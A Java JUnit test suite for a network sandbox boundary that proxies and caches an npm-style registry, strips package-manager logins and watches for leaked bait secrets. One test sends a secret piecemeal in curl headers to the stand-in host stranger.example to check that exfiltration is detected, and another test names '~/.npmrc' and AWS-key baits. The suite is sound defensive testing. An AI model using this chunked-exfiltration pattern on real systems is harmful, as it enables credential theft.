package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;

import io.mcpsf.boundary.cache.AnswerCache;
import io.mcpsf.model.NetworkObservation.EgressRefused;
import io.mcpsf.model.NetworkObservation.RequestForwarded;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.os.Command;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicReference;

/** What a registry is asked, what it is not asked twice, and what it is never told. */
@Tag("chamber")
@EnabledIf("io.mcpsf.boundary.Needs#root")
class RegistryTest {

    private static final String TARBALL = "/left/-/left-1.0.0.tgz";
    private static final int BIG = 200 << 20;

    @TempDir Path folder;
    private final List<String> asked = new CopyOnWriteArrayList<>();
    private final AtomicReference<Instant> now = new AtomicReference<>(Instant.now());
    private HttpServer registry;
    private Inside inside;
    private String base;

    @BeforeEach
    void open() throws IOException, InterruptedException {
        registry = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        registry.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
        registry.createContext("/", this::answer);
        registry.start();
        int port = registry.getAddress().getPort();
        base = "http://registry.example:" + port;
        Clock clock = InstantSource.system().withZone(ZoneOffset.UTC);
        InstantSource source = now::get;
        var forwarder =
                new Forwarder(
                        new Upstreams(SystemTrust::sockets),
                        host -> new InetAddress[] {InetAddress.getLoopbackAddress()},
                        address -> true);
        inside =
                new Inside(
                        Files.createDirectory(folder.resolve("boundary")),
                        BoundarySpec.Options.plain()
                                .with(
                                        EgressPolicy.sinkhole()
                                                .allowing(
                                                        new EgressPolicy.Allowed(
                                                                "registry.example", port, true)))
                                .with(
                                        AnswerCache.in(
                                                folder.resolve("cache"),
                                                1L << 30,
                                                source.withZone(ZoneOffset.UTC))),
                        new Backbone(clock, forwarder));
    }

    @AfterEach
    void close() {
        inside.close();
        registry.stop(0);
    }

    @Test
    void aReleaseIsFetchedOnce() throws InterruptedException {
        assertThat(get(TARBALL)).isEqualTo("body of " + TARBALL);
        assertThat(get(TARBALL)).isEqualTo("body of " + TARBALL);

        assertThat(asked).hasSize(1);
        RequestForwarded second =
                inside.await(RequestForwarded.class, r -> r.note().equals("from the cache"));
        assertThat(second.status()).isEqualTo(200);
        assertThat(second.url()).isEqualTo(base + TARBALL);
    }

    @Test
    void anOldListingIsAskedAgainByItsTag() throws InterruptedException {
        get("/left");
        now.updateAndGet(then -> then.plus(Duration.ofMinutes(1)));
        get("/left");
        assertThat(asked).hasSize(1);

        now.updateAndGet(then -> then.plus(Duration.ofMinutes(10)));
        assertThat(get("/left")).isEqualTo("body of /left");

        assertThat(asked).hasSize(2);
        assertThat(asked.getLast()).contains("If-none-match=[\"tag\"]");
        inside.await(RequestForwarded.class, r -> r.note().contains("the host confirmed it"));
    }

    @Test
    void whatIsKeptIsGivenWhenTheHostIsAway() throws InterruptedException {
        get("/left");
        get(TARBALL);
        registry.stop(0);
        now.updateAndGet(then -> then.plus(Duration.ofDays(40)));

        assertThat(get("/left")).isEqualTo("body of /left");
        assertThat(get(TARBALL)).isEqualTo("body of " + TARBALL);
        assertThat(get("/other")).isEqualTo("Bad Gateway\n");
    }

    @Test
    void aPartIsCutFromTheWhole() throws InterruptedException {
        get(TARBALL);

        assertThat(curl("-r", "0-3", base + TARBALL)).isEqualTo("body");
        assertThat(curl("-r", "-3", base + TARBALL)).isEqualTo("tgz");
        assertThat(curl("-r", "5-6", base + TARBALL)).isEqualTo("of");
        assertThat(curl("-I", base + TARBALL)).contains("Content-Length: 30");
        assertThat(asked).hasSize(1);
    }

    @Test
    void theLoginOfThePackageManagerIsLeftOut() throws InterruptedException {
        String login = "Authorization: Bearer " + Inside.LOGIN;
        assertThat(curl("-H", login, "-H", "npm-session: x", base + "/left"))
                .isEqualTo("body of /left");

        assertThat(asked).hasSize(1);
        assertThat(asked.getFirst()).doesNotContain("Authorization").doesNotContain("Npm-session");
        inside.await(RequestForwarded.class, r -> r.note().equals(RegistryLogin.NOTE));
        assertThat(inside.all(BaitLeft.class)).isEmpty();
        assertThat(inside.all(EgressRefused.class)).isEmpty();
    }

    /** Hundreds of requests of an installation would use up what may be searched in a run. */
    @Test
    void whatOnlyTheRegistryCouldPutTogetherIsNotPutTogether() throws InterruptedException {
        piecemeal(base + "/left");
        inside.boundary.flush();
        assertThat(inside.all(BaitLeft.class)).isEmpty();

        piecemeal("http://stranger.example/left");
        inside.await(BaitLeft.class, b -> b.destination().startsWith("stranger.example"));
    }

    private void piecemeal(String url) throws InterruptedException {
        for (int i = 0; i < Inside.SECRET.length(); i += 4) {
            curl("-H", "x-part: " + Inside.SECRET.substring(i, i + 4), url);
        }
    }

    @Test
    void npmMayAskForHolesWithItsLogin() throws InterruptedException {
        String url = base + "/-/npm/v1/security/advisories/bulk";
        assertThat(curl("-H", "Authorization: Bearer " + Inside.LOGIN, "-d", "{}", url))
                .isEqualTo("{}");

        assertThat(asked).isEmpty();
        assertThat(inside.all(BaitLeft.class)).isEmpty();
        assertThat(inside.all(EgressRefused.class)).isEmpty();
    }

    @Test
    void whoTheLoginBelongsToIsNotAskedForPackages() throws InterruptedException {
        curl("-H", "Authorization: Bearer " + Inside.LOGIN, base + "/-/whoami");
        inside.await(BaitLeft.class, b -> b.bait().equals("~/.npmrc"));
        curl("-H", "Authorization: Bearer " + Inside.SECRET, base + "/left");
        inside.await(BaitLeft.class, b -> b.bait().equals("aws-key"));
        curl(base + "/" + Inside.LOGIN);

        inside.boundary.flush();
        assertThat(inside.all(EgressRefused.class)).hasSize(3);
        assertThat(asked).isEmpty();
    }

    @Test
    void whatIsPersonalIsNotKept() throws InterruptedException {
        curl("-H", "Authorization: Bearer mine", base + TARBALL);
        curl("-H", "Authorization: Bearer mine", base + TARBALL);
        get("/secret");
        get("/secret");

        assertThat(asked).hasSize(4);
    }

    @Test
    void largePackagesPassWithoutEnd() throws InterruptedException {
        assertThat(curl("-o", "/dev/null", "-w", "%{size_download}", base + "/big-1.0.0.whl"))
                .isEqualTo(Integer.toString(BIG));
        assertThat(curl("-o", "/dev/null", "-w", "%{size_download}", base + "/big-1.0.0.whl"))
                .isEqualTo(Integer.toString(BIG));

        assertThat(asked).hasSize(1);
        inside.boundary.close();
        assertThat(folder.resolve("boundary/traffic.pcapng")).isNotEmptyFile();
        assertThat(folder.resolve("boundary/traffic.pcapng").toFile().length())
                .isLessThan(10 << 20);
    }

    private void answer(HttpExchange exchange) throws IOException {
        String path = exchange.getRequestURI().getPath();
        asked.add(path + " " + exchange.getRequestHeaders().entrySet());
        if (path.startsWith("/secret")) {
            exchange.getResponseHeaders().add("Cache-Control", "private");
        }
        if (!path.contains("tgz")) {
            exchange.getResponseHeaders().add("ETag", "\"tag\"");
            if (exchange.getRequestHeaders().containsKey("If-None-Match")) {
                exchange.sendResponseHeaders(304, -1);
                exchange.close();
                return;
            }
        }
        if (path.startsWith("/big")) {
            exchange.sendResponseHeaders(200, 0);
            byte[] part = new byte[1 << 20];
            Arrays.fill(part, (byte) 'x');
            try (OutputStream out = exchange.getResponseBody()) {
                for (int i = 0; i < BIG >> 20; i++) {
                    out.write(part);
                }
            }
            return;
        }
        byte[] body = ("body of " + path).getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(200, body.length);
        try (OutputStream out = exchange.getResponseBody()) {
            out.write(body);
        }
    }

    private String get(String path) throws InterruptedException {
        return curl(base + path);
    }

    private String curl(String... more) throws InterruptedException {
        String[] argv = new String[more.length + 4];
        System.arraycopy(new String[] {"curl", "-sS", "-m", "50"}, 0, argv, 0, 4);
        System.arraycopy(more, 0, argv, 4, more.length);
        Command.Result said = inside.run(argv);
        assertThat(said.good()).as(said.complaint()).isTrue();
        return said.stdout();
    }
}
